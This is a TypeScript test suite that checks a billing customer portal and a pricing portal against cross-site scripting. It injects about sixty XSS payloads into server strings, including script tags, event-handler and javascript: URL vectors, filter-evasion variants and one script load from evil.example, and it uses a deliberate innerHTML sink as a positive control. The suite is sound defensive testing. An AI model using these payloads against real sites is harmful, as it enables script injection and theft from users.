/**
 * XSS: a corpus of hostile strings put into every server-provided string the portals
 * render — plan names, descriptions and features, metric names and units, customer
 * names and emails, API key names, invoice line descriptions (through the engine API),
 * and invoice numbers, card brands and error messages (through a response-rewriting
 * transport, where the engine's own validation would not let them in). The customer
 * portal (every view, its dialogs and panels) and the pricing portal are mounted in
 * happy-dom with script evaluation ON (vitest.config.ts), so a payload that became markup
 * would run. Then:
 *
 * - none executes: every element gets error / load / toggle / focus / mouseover...
 *   events dispatched, and `window.__xss`, which every payload would set, stays unset;
 * - none becomes an element or attribute: no script, img, svg, iframe... beyond the
 *   portal's own, no `on*` attribute, no `javascript:` anywhere;
 * - the text is shown verbatim.
 *
 * A positive control first shows this detector catches the same payloads when they do
 * reach innerHTML.
 */
import { Window } from 'happy-dom'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import type { Invoice, List, PaymentMethod, Plan, Session } from '../../src/api/types.js'
import { createPortal } from '../../src/portal.js'
import { createPricingPortal } from '../../src/pricing.js'
import type { CustomerScope } from '../../src/server/billing/types.js'
import type { PortalHandle } from '../../src/types.js'
import { TEST_APP_ID, TEST_PUBLIC_KEY, createTestPortal, type TestPortal } from '../helpers/portal.js'
import { answerDialog, buttonNamed, dialog, waitFor } from '../unit/views/harness.js'

const X = 'window.__xss=1'
/** At least 50 distinct ways in; each would set `window.__xss` if it ran. No leading or trailing space: the engine trims. */
const PAYLOADS: string[] = [
  `<script>${X}</script>`,
  `<img src=x onerror="${X}">`,
  `<img src=x onerror=${X}//`,
  `<svg onload="${X}">`,
  `<svg/onload=${X}>`,
  `<svg><script>${X}</script></svg>`,
  `<svg><animate onbegin=${X} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${X}"><text x=20 y=20>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${X}>`,
  `<math href="javascript:${X}">x</math>`,
  `<iframe src="javascript:parent.${X}"></iframe>`,
  `<iframe srcdoc="<script>parent.${X}</script>"></iframe>`,
  `<a href="javascript:${X}">click me</a>`,
  `<a href="jav&#x09;ascript:${X}">tab</a>`,
  `<a href="&#106;avascript:${X}">entity</a>`,
  `<body onload=${X}>`,
  `<details open ontoggle=${X}>`,
  `<input autofocus onfocus=${X}>`,
  `<video><source onerror="${X}"></video>`,
  `<audio src=x onerror=${X}>`,
  `<object data="javascript:${X}"></object>`,
  `<embed src="javascript:${X}">`,
  `<form action="javascript:${X}"><button>go</button></form>`,
  `<button formaction="javascript:${X}">go</button>`,
  `<div onmouseover="${X}">hover</div>`,
  `<marquee onstart=${X}>`,
  `<style>@import 'javascript:${X}';</style>`,
  `<link rel=stylesheet href="javascript:${X}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${X}">`,
  `<base href="javascript:${X}//">`,
  `"><script>${X}</script>`,
  `'><img src=x onerror=${X}>`,
  `</textarea><script>${X}</script>`,
  `</title><script>${X}</script>`,
  `<!--<img src="--><img src=x onerror=${X}//">`,
  `<![CDATA[<script>${X}</script>]]>`,
  `&lt;script&gt;${X}&lt;/script&gt;`,
  `&#60;img src=x onerror=${X}&#62;`,
  `\\u003cscript\\u003e${X}\\u003c/script\\u003e`,
  `{{constructor.constructor('${X}')()}}`,
  `\${${X}}`,
  '{{7*7}} #{7*7} <%= 7*7 %>',
  '{plan} {amount} {name} {date} {count}',
  `<scr<script>ipt>${X}</scr</script>ipt>`,
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  `<img """><script>${X}</script>">`,
  `<isindex type=image src=1 onerror=${X}>`,
  `<xss onafterscriptexecute=${X}><script>1</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${X}>">`,
  `<template><img src=x onerror=${X}></template>`,
  `<slot onclick=${X}>slot</slot>`,
  `javascript:${X}`,
  `data:text/html,<script>${X}</script>`,
  `\u202e<script>${X}</script>`,
  `<img src=x onerror=${X}`,
  `<<script>${X}//<</script>`,
  `<scr\u0000ipt>${X}</scr\u0000ipt>`,
  `<div style="background:url(javascript:${X})">css</div>`,
  `<a href=" javascript:${X}" target=_self>space</a>`,
  `<img src=x:y onerror=eval(atob('d2luZG93Ll9feHNzPTE='))>`,
  `<b onclick=${X}>bold</b> & <i>italic</i> &amp; &nbsp; &#x3C;`,
  `Ünïcödé 😀 中文 العربية <u onpointerover=${X}>u</u>`,
]

type Flagged = { __xss?: unknown }
/** The flag on the window `root` lives in (the test's global one for the portals). */
const flagOf = (root: Element) => (root.ownerDocument.defaultView as unknown as Flagged).__xss
const flag = () => (globalThis as Flagged).__xss

/** Gives any inline handler that got in a chance to run, and follows any javascript: link. */
const EVENTS = ['error', 'load', 'toggle', 'focus', 'focusin', 'blur', 'mouseover', 'mouseenter', 'pointerover', 'animationstart', 'begin', 'start', 'input', 'afterscriptexecute', 'beforeprint']
const FORBIDDEN_TAGS = ['script', 'img', 'svg', 'math', 'iframe', 'frame', 'object', 'embed', 'style', 'link', 'meta', 'base', 'video', 'audio', 'source', 'template', 'noscript', 'marquee', 'details', 'isindex', 'xss', 'slot', 'b', 'i', 'u', 'mglyph', 'mtext', 'animate', 'title', 'textarea', 'body', 'html', 'head']

/** Fires events on every element; checks for foreign elements, handler attributes and javascript: URLs. */
function probe(root: Element): { elements: number } {
  const all = [root, ...root.querySelectorAll('*')]
  const EventOf = (root.ownerDocument.defaultView as unknown as { Event: typeof Event }).Event
  for (const el of all) for (const type of EVENTS) el.dispatchEvent(new EventOf(type))
  for (const a of root.querySelectorAll<HTMLAnchorElement>('a[href^="javascript" i], a[href*="javascript:" i]')) a.click()
  // The one <svg> the portal makes: the usage chart's plot, drawn with createElementNS and holding
  // only its own shapes (no text nodes at all), so nothing a server sends can be parsed into it.
  const ownChart = (el: Element) => el.localName === 'svg' && el.classList.contains('ap-chart__svg') && [...el.querySelectorAll('*')].every((s) => ['g', 'rect', 'line', 'polyline'].includes(s.localName)) && el.textContent === ''
  const foreign = all.filter((el) => FORBIDDEN_TAGS.includes(el.localName) && !ownChart(el)).map((el) => el.outerHTML.slice(0, 120))
  expect(foreign, 'elements the portal never makes').toEqual([])
  for (const el of all) {
    for (const attr of el.attributes) {
      expect(attr.name.startsWith('on'), `${el.localName}[${attr.name}]`).toBe(false)
      expect(['src', 'srcdoc', 'style', 'action', 'formaction', 'xlink:href', 'background', 'dynsrc', 'lowsrc'], `${el.localName}[${attr.name}]`).not.toContain(attr.name)
      if (attr.name === 'href') expect(attr.value, 'an href').toMatch(/^(https?:|\/|[a-z0-9])/i)
      expect(attr.value.replace(/\s/g, '').toLowerCase(), `${el.localName}[${attr.name}]`).not.toMatch(/^(javascript|vbscript|data):/)
    }
  }
  expect(flagOf(root), 'a payload ran').toBeUndefined()
  return { elements: all.length }
}

/** The portal's text, with NBSP from number formatting kept as is. */
const textOf = (el: Element) => el.textContent ?? ''
function expectShown(root: Element, values: Iterable<string>): number {
  let n = 0
  const text = textOf(root)
  for (const value of values) {
    expect(text.includes(value), `shown verbatim: ${JSON.stringify(value)}`).toBe(true)
    n++
  }
  return n
}

// ------------------------------------------------------------------ the hostile world

const N = PAYLOADS.length
const at = (i: number) => PAYLOADS[i % N]
let portal: TestPortal
let main: CustomerScope
let mainToken: string
/** Every server string the portals may show, by field, as the server sends it. */
const fields = new Map<string, Set<string>>()
const record = (field: string, value: string) => {
  if (!fields.has(field)) fields.set(field, new Set())
  fields.get(field)!.add(value)
}

beforeAll(async () => {
  // An API key per payload, past the default maximum of 10.
  portal = createTestPortal({ seed: false, maxApiKeysPerCustomer: N })
  const engine = portal.billing
  await engine.createApp({
    id: TEST_APP_ID,
    name: 'XSS Inc',
    publicKey: TEST_PUBLIC_KEY,
    invoicePrefix: 'XSS',
    metrics: PAYLOADS.map((p, i) => ({ key: `m${i}`, name: p, unit: at(i + 7) })),
  })
  for (let i = 0; i < N; i++) {
    await engine.createPlan(TEST_APP_ID, {
      id: `plan_${i}`,
      name: at(i),
      description: at(i + 1),
      features: [at(i + 2), at(i + 3)],
      // Every plan meters every metric, so the dashboard shows each metric's name and unit.
      quotas: Object.fromEntries(PAYLOADS.map((_, m) => [`m${m}`, m % 5 === 0 ? null : 1000 + m])),
      trialDays: 0,
      featured: i === 3,
      prices: [
        { id: `price_${i}_month`, period: 'month', amount: 1000 + i * 100, currency: 'USD' },
        { id: `price_${i}_year`, period: 'year', amount: 10_000 + i * 1000, currency: 'USD' },
      ],
    })
  }
  // The main customer: a card, an API key per payload, and an upgrade through every plan,
  // so that invoice lines ("Unused time on <plan>", "Remaining time on <plan>") name them all.
  main = { appId: TEST_APP_ID, customUid: 'cus_main' }
  await engine.createCustomer(TEST_APP_ID, { customUid: main.customUid, name: at(5), email: at(6) })
  await engine.attachPaymentMethod(main, 'pm_card_visa')
  for (let i = 0; i < N; i++) await engine.createApiKey(main, at(i + 11))
  for (let i = 0; i < N; i++) await engine.subscribe(main, `price_${i}_month`)
  for (let i = 0; i < N; i++) await engine.recordUsage(main, `m${i}`, 1 + i)
  // One customer per payload, for names and emails.
  for (let i = 0; i < N; i++) await engine.createCustomer(TEST_APP_ID, { customUid: `cus_${i}`, name: at(i), email: at(i + 1) })
  mainToken = await portal.token(main.customUid)

  const plans = (await engine.listPlans(main)).data
  for (const plan of plans) {
    record('plan name', plan.name)
    record('plan description', plan.description)
    plan.features.forEach((f) => record('feature', f))
  }
  const session = await engine.getSession(main)
  session.usage.forEach((u) => (record('metric name', u.name), record('metric unit', u.unit)))
  ;((await engine.listApiKeys(main))?.data ?? []).forEach((k) => record('API key name', k.name))
  for (const invoice of (await engine.listInvoices(main, { limit: 100 })).data) {
    for (const line of (await engine.getInvoice(main, invoice.id)).lines ?? []) record('invoice line', line.description)
  }
  PAYLOADS.forEach((p) => (record('invoice number', p), record('card brand', p), record('error message', p), record('customer name', p), record('customer email', p)))
  expect(fields.get('invoice line')!.size).toBeGreaterThanOrEqual(N)
})
afterAll(() => portal.close())

afterEach(() => {
  expect(flag()).toBeUndefined()
})

// ------------------------------------------------------------------ mounting

interface Mounted {
  root: HTMLElement
  handle: PortalHandle
  pending: Set<Promise<unknown>>
  close(): Promise<void>
}
const mounted: Mounted[] = []
afterEach(async () => {
  for (const m of mounted.splice(0)) await m.close()
})

type Rewrite = (path: string, method: string, response: Response) => Promise<Response> | Response

/**
 * The real handler, in process, with hostile rewrites on the way back: invoice numbers
 * and card brands become payloads (the engine would never store them), and chosen routes
 * answer an error whose message is a payload.
 */
function transport(extra?: Rewrite): typeof fetch & { pending: Set<Promise<unknown>> } {
  const pending = new Set<Promise<unknown>>()
  const base = new URL(portal.apiUrl).pathname
  const fn = (async (input: RequestInfo | URL, init?: RequestInit) => {
    const url = new URL(String(input))
    const path = url.pathname.slice(base.length)
    const method = init?.method ?? 'GET'
    const handled = portal.handler(new Request(url, { ...init, signal: undefined }))
    pending.add(handled)
    void handled.finally(() => pending.delete(handled))
    let response = await handled
    if (response.ok && method === 'GET' && /^\/invoices(\/|$)/.test(path)) response = await rewriteInvoices(response)
    if (response.ok && method === 'GET' && path === '/payment-methods') response = await rewriteBrands(response)
    return extra ? extra(path, method, response) : response
  }) as typeof fetch & { pending: Set<Promise<unknown>> }
  fn.pending = pending
  return fn
}

/** Invoice numbers as payloads: by position in the customer's history, so a list and its detail agree. */
let invoiceIndex: Map<string, number> | undefined
async function numberOf(id: string): Promise<string> {
  invoiceIndex ??= new Map((await portal.billing.listInvoices(main, { limit: 100 })).data.map((inv, i) => [inv.id, i]))
  return at(invoiceIndex.get(id) ?? 0)
}
async function rewriteInvoices(response: Response): Promise<Response> {
  const body = (await response.json()) as List<Invoice> | Invoice
  if ('data' in body) {
    for (const invoice of body.data) invoice.number = await numberOf(invoice.id)
  } else {
    body.number = await numberOf(body.id)
  }
  return Response.json(body, { status: response.status })
}
async function rewriteBrands(response: Response): Promise<Response> {
  const body = (await response.json()) as List<PaymentMethod>
  const [real] = body.data
  // One card per payload; the first keeps its real id, so Remove and Set default still reach the server.
  body.data = PAYLOADS.map((brand, i) => ({ ...real, id: i === 0 ? real.id : `${real.id}x${i}`, brand, is_default: i === 0 }))
  return Response.json(body, { status: response.status })
}

async function mountCustomerPortal(token: string, view: 'dashboard' | 'invoices' | 'billing', extra?: Rewrite): Promise<Mounted> {
  const fetch = transport(extra)
  const root = document.createElement('div')
  document.body.appendChild(root)
  const handle = createPortal(root, { token, apiUrl: portal.apiUrl, fetch, locale: 'en-US', defaultView: view })
  const m: Mounted = {
    root,
    handle,
    pending: fetch.pending,
    async close() {
      handle.destroy()
      root.remove()
      await Promise.allSettled(fetch.pending)
    },
  }
  mounted.push(m)
  return m
}

async function mountPricing(token?: string): Promise<Mounted> {
  const fetch = transport()
  const root = document.createElement('div')
  document.body.appendChild(root)
  const handle = createPricingPortal(root, { publicKey: TEST_PUBLIC_KEY, token, apiUrl: portal.apiUrl, fetch, locale: 'en-US' })
  const m: Mounted = {
    root,
    handle,
    pending: fetch.pending,
    async close() {
      handle.destroy()
      root.remove()
      await Promise.allSettled(fetch.pending)
    },
  }
  mounted.push(m)
  return m
}

const shownCount = new Map<string, number>()
const shown = (field: string, root: Element, values: Iterable<string> = fields.get(field)!) => shownCount.set(field, (shownCount.get(field) ?? 0) + expectShown(root, values))

// ------------------------------------------------------------------ tests

describe('the detector', () => {
  it('catches these payloads when they do reach innerHTML (positive control)', async () => {
    // In a window of its own (same settings as the suite's), so what runs here stays here.
    const own = new Window({ url: 'http://localhost:3000', settings: { enableJavaScriptEvaluation: true, suppressInsecureJavaScriptEnvironmentWarning: true, disableJavaScriptFileLoading: true, disableCSSFileLoading: true, disableIframePageLoading: true, disableErrorCapturing: false } })
    const doc = own.document as unknown as Document
    const ran: string[] = []
    const missed: string[] = []
    try {
      for (const payload of PAYLOADS) {
        const sink = doc.createElement('div')
        doc.body.appendChild(sink)
        sink.innerHTML = payload // the bug this suite looks for, on purpose
        try {
          probe(sink)
          missed.push(payload)
        } catch {
          // caught: an element, a handler attribute, a javascript: URL, or it ran
          if ((own as unknown as Flagged).__xss !== undefined) ran.push(payload)
        }
        delete (own as unknown as Flagged).__xss
        sink.remove()
      }
      // An injected script element runs too: evaluation is on.
      const script = doc.createElement('script')
      script.textContent = X
      doc.body.appendChild(script)
      expect((own as unknown as Flagged).__xss).toBe(1)
    } finally {
      await own.happyDOM.close()
    }
    // happy-dom runs only some inline handlers on a dispatched event; the structural checks catch the rest.
    expect(ran.length).toBeGreaterThanOrEqual(5)
    // The rest make no markup in a div's innerHTML (entities, template syntax, plain text,
    // a tag cut off at the end) or are parsed differently by happy-dom than by a browser.
    expect(PAYLOADS.length - missed.length).toBeGreaterThanOrEqual(40)
    console.log(`xss: the detector catches ${PAYLOADS.length - missed.length} of ${PAYLOADS.length} payloads put through innerHTML (${ran.length} of them ran in happy-dom); the other ${missed.length} make no markup there`)
  })
})

describe('the customer portal with hostile server strings', () => {
  it('dashboard: customer name and email, plan, every metric name and unit, every API key name; roll dialog and revealed key', async () => {
    const m = await mountCustomerPortal(mainToken, 'dashboard')
    await waitFor(() => m.root.querySelectorAll('.ap-meter').length === N && m.root.querySelectorAll('.ap-key').length === N)
    const session = await portal.billing.getSession(main)
    expect(m.root.querySelector('.ap-customer__name')!.textContent).toBe(session.customer.name)
    shown('customer name', m.root, [session.customer.name])
    shown('customer email', m.root, [session.customer.email])
    shown('plan name', m.root, [session.plan!.name])
    shown('metric name', m.root)
    shown('metric unit', m.root)
    shown('API key name', m.root)
    probe(m.root)

    // The roll confirmation names the key; the revealed key's heading too.
    const [firstKey] = m.root.querySelectorAll('.ap-key')
    const name = firstKey.querySelector('.ap-key__name')!.textContent!
    firstKey.querySelector<HTMLButtonElement>('button')!.click()
    const asked = await dialog(m.root)
    expect(asked.querySelector('h2')!.textContent).toContain(name)
    probe(m.root)
    await answerDialog(m.root, true)
    const reveal = await waitFor(() => m.root.querySelector('.ap-reveal'))
    expect(reveal.querySelector('h3')!.textContent).toContain(name)
    probe(m.root)
  })

  it('dashboard of every other customer: each name and email', async () => {
    for (let i = 0; i < N; i++) {
      const m = await mountCustomerPortal(await portal.token(`cus_${i}`), 'dashboard')
      const nameEl = await waitFor(() => m.root.querySelector('.ap-customer__name'))
      expect(nameEl.textContent).toBe(at(i))
      shown('customer name', m.root, [at(i)])
      shown('customer email', m.root, [at(i + 1)])
      probe(m.root)
      await m.close()
      mounted.pop()
    }
  })

  it('invoices: every number, and every line description behind Details, through Load more', async () => {
    const m = await mountCustomerPortal(mainToken, 'invoices')
    const total = (await portal.billing.listInvoices(main, { limit: 100 })).data.length
    const rows = () => m.root.querySelectorAll('.ap-invoice').length
    await waitFor(() => rows() > 0)
    while (rows() < total) {
      const before = rows()
      buttonNamed(m.root, 'Load more')!.click()
      await waitFor(() => rows() > before)
    }
    expect(m.root.querySelectorAll('.ap-invoice')).toHaveLength(total)
    for (const toggle of m.root.querySelectorAll<HTMLButtonElement>('.ap-disclosure')) toggle.click()
    await waitFor(() => m.root.querySelectorAll('.ap-table--lines').length === total)
    shown('invoice number', m.root, [...new Set(Array.from({ length: total }, (_, i) => at(i)))])
    shown('invoice line', m.root)
    probe(m.root)
  })

  it('billing: every plan name and description, every card brand, the remove dialog, and a preview', async () => {
    const m = await mountCustomerPortal(mainToken, 'billing')
    await waitFor(() => m.root.querySelectorAll('.ap-plan-option').length === N && m.root.querySelectorAll('.ap-method').length === N)
    shown('plan name', m.root)
    shown('plan description', m.root)
    // The label capitalises the brand's first letter ("visa" -> "Visa").
    shown('card brand', m.root, PAYLOADS.map((p) => p.charAt(0).toUpperCase() + p.slice(1)))
    probe(m.root)

    const remove = buttonNamed(m.root, /^Remove /)!
    remove.click()
    const asked = await dialog(m.root)
    expect(asked.querySelector('h2')!.textContent).toContain(m.root.querySelector('.ap-method__card')!.textContent!.replace(/ ending in \d+$/, ''))
    probe(m.root)
    await answerDialog(m.root, false)

    // Choose a lower plan: the preview names it; its lines name both plans.
    const choose = m.root.querySelector<HTMLButtonElement>('[data-price-id="price_0_month"] button')!
    choose.click()
    const preview = await waitFor(() => m.root.querySelector('.ap-preview'))
    expect(preview.querySelector('h3')!.textContent).toContain(at(0))
    probe(m.root)
  })

  it('server error messages: shown as text in the error panel, Retry after Retry', async () => {
    let errors = 0
    const m = await mountCustomerPortal(mainToken, 'billing', (path, method, response) =>
      method === 'GET' && path === '/payment-methods' ? Response.json({ error: { code: 'invalid_request', message: at(errors++) } }, { status: 400 }) : response,
    )
    // Each Retry brings the next payload as the message: every one is shown as text.
    for (let i = 0; i < N; i++) {
      const panel = await waitFor(() => (m.root.querySelector('.ap-error__message')?.textContent === at(i) ? m.root.querySelector('.ap-error')! : null))
      shown('error message', panel, [at(i)])
      probe(panel)
      probe(m.root.querySelector('[aria-live]')!)
      buttonNamed(panel, 'Retry')!.click()
    }
  })
})

describe('hostile ids from a custom backend', () => {
  // The engine's ids are [A-Za-z0-9_], but a BillingBackend of the seller's own may send
  // anything. Found by this suite: ids were put into CSS selectors to move focus back, so
  // an id with a quote made Dismiss and Keep current plan throw instead of returning focus.
  const HOSTILE_ID = `x"] , script, [x="<img src=x onerror=${X}>`
  const rewrite: Rewrite = async (path, method, response) => {
    if (method === 'GET' && path === '/plans') {
      const body = (await response.json()) as { data: Plan[] }
      for (const plan of body.data) for (const price of plan.prices) price.id = `${price.id}${HOSTILE_ID}`
      return Response.json(body)
    }
    if (method === 'POST' && path === '/subscription/preview') {
      return Response.json({ price_id: 'p', amount_due_now: 100, currency: 'USD', next_renewal_amount: 100, effective: 'now', effective_at: 0, lines: [], needs_card: false })
    }
    if (method === 'GET' && path === '/api-keys') {
      const body = (await response.json()) as List<{ id: string }>
      body.data.forEach((key) => (key.id = `${key.id}${HOSTILE_ID}`))
      return Response.json(body)
    }
    if (method === 'POST' && path.startsWith('/api-keys/')) {
      const id = decodeURIComponent(path.split('/')[2])
      return Response.json({ id, name: 'Rolled', masked: 'ak_live_x…abcd', created: 0, last_used: null, secret: 'ak_live_secret' })
    }
    return response
  }

  it('Keep current plan returns focus to Choose, whatever the price id', async () => {
    const m = await mountCustomerPortal(mainToken, 'billing', rewrite)
    const choose = await waitFor(() => m.root.querySelector<HTMLButtonElement>('.ap-price button'))
    expect(choose.closest('[data-price-id]')!.getAttribute('data-price-id')).toContain(HOSTILE_ID)
    choose.focus()
    choose.click()
    const preview = await waitFor(() => m.root.querySelector<HTMLElement>('.ap-preview'))
    buttonNamed(preview, 'Keep current plan')!.click()
    expect(m.root.querySelector('.ap-preview')).toBeNull()
    expect(document.activeElement?.getAttribute('data-ap-focus')).toBe(choose.getAttribute('data-ap-focus'))
    probe(m.root)
  })

  it('Dismiss returns focus to the key’s Roll, whatever the key id', async () => {
    const m = await mountCustomerPortal(mainToken, 'dashboard', rewrite)
    const roll = await waitFor(() => m.root.querySelector<HTMLButtonElement>('.ap-key button'))
    roll.click()
    await answerDialog(m.root, true)
    const reveal = await waitFor(() => m.root.querySelector<HTMLElement>('.ap-reveal'))
    buttonNamed(reveal, 'I’ve saved it')!.click()
    expect(m.root.querySelector('.ap-reveal')).toBeNull()
    expect(document.activeElement?.getAttribute('data-ap-focus')).toBe(`roll-${(await portal.billing.listApiKeys(main))!.data[0].id}${HOSTILE_ID}`)
    probe(m.root)
  })
})

describe('the pricing portal with hostile server strings', () => {
  it('a visitor: every plan name, description, feature and metric name', async () => {
    const m = await mountPricing()
    await waitFor(() => m.root.querySelectorAll('.ap-plan-card').length === N)
    shown('plan name', m.root)
    shown('plan description', m.root)
    shown('feature', m.root)
    const plans = ((await portal.billing.listPublicPlans(TEST_PUBLIC_KEY)) as { data: Plan[] }).data
    const quotaNames = new Set(plans.flatMap((p) => Object.keys(p.quotas).map((k) => p.metrics?.[k]?.name ?? k)))
    shown('metric name', m.root, [...quotaNames].filter((n) => PAYLOADS.includes(n)))
    probe(m.root)
  })

  it('a signed-in customer: the same cards, and a preview naming the plan', async () => {
    const m = await mountPricing(mainToken)
    await waitFor(() => m.root.querySelectorAll('.ap-plan-card').length === N)
    shown('plan name', m.root)
    shown('feature', m.root)
    probe(m.root)
    const card = m.root.querySelector<HTMLElement>('.ap-plan-card[data-plan-id="plan_1"]')!
    const action = [...card.querySelectorAll<HTMLButtonElement>('button')].at(-1)!
    action.click()
    await waitFor(() => m.root.querySelector('.ap-preview, [role="dialog"]'))
    probe(m.root)
    const session = (await portal.billing.getSession(main)) as Session
    expect(session.customer.name).toBe(at(5))
  })
})

describe('summary', () => {
  it('prints what was tried', () => {
    const total = [...shownCount.values()].reduce((a, b) => a + b, 0)
    console.log(`xss: ${N} payloads; ${[...shownCount].map(([f, n]) => `${f} ${n}`).join(', ')}; ${total} renderings, none executed, none became an element, all shown verbatim`)
    expect(N).toBeGreaterThanOrEqual(50)
    expect(shownCount.size).toBeGreaterThanOrEqual(12)
  })
})
